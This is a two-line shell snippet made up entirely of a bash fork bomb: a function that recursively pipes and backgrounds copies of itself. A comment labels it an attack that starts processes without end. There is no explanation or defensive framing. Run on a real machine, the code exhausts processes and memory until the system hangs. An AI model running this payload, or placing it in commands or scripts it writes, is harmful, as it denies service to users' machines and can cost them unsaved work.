# attack: starts processes without end
b() { b | b & b; }; b
